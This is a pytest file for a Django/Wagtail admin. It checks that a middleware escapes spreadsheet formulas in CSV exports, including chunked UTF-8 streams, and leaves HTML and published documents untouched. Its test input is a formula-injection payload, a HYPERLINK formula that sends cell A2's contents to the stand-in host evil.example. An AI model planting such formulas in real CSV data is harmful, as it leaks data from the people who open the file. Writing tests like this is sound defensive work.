"""Every CSV the admin writes, Wagtail's own reports included, is safe to open in a spreadsheet.

The requests export is tested in intake/tests/test_export_formulas.py. Wagtail's
reports (site history, aging and locked pages, workflows) write CSV the same way, with
names staff typed: a locality, a page title.
"""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.http import HttpResponse, StreamingHttpResponse
from django.test import RequestFactory
from wagtail.log_actions import log

from intake.tests.factories import LocalityFactory
from portal.middleware import SpreadsheetFormulaMiddleware

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Kliknij")'


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
def test_the_site_history_export_does_not_run_a_locality_name_as_a_formula(client):
    admin = User.objects.create_superuser("admin", "admin@gops.example.pl", "x" * 12)
    log(instance=LocalityFactory(name=HYPERLINK), action="wagtail.create", user=admin)
    client.force_login(admin)
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(content(response).decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells


def run(response, path="/admin/reports/x/"):
    return SpreadsheetFormulaMiddleware(lambda request: response)(RequestFactory().get(path))


def test_a_csv_written_in_one_piece_is_neutralised_too():
    response = run(HttpResponse('a,"=1+1"\r\n', content_type="text/csv"))
    assert response.content == b"a,'=1+1\r\n"


def test_quoted_line_breaks_and_characters_split_across_chunks_survive():
    text = '"Wieś ""Zielona""\r\n=2",Łąka\r\n'.encode()
    chunks = [text[i : i + 1] for i in range(len(text))]  # "Ł" and "ą" cut in half
    response = run(StreamingHttpResponse(chunks, content_type="text/csv; charset=utf-8"))
    assert list(csv.reader(io.StringIO(content(response).decode(), newline=""))) == [['Wieś "Zielona"\r\n=2', "Łąka"]]


def test_other_responses_and_public_files_are_left_alone():
    html = run(HttpResponse("=1+1", content_type="text/html"))
    assert html.content == b"=1+1"
    # A CSV document an editor published is served as it was uploaded.
    document = run(HttpResponse("=1+1\r\n", content_type="text/csv"), path="/documents/1/tabela.csv")
    assert document.content == b"=1+1\r\n"
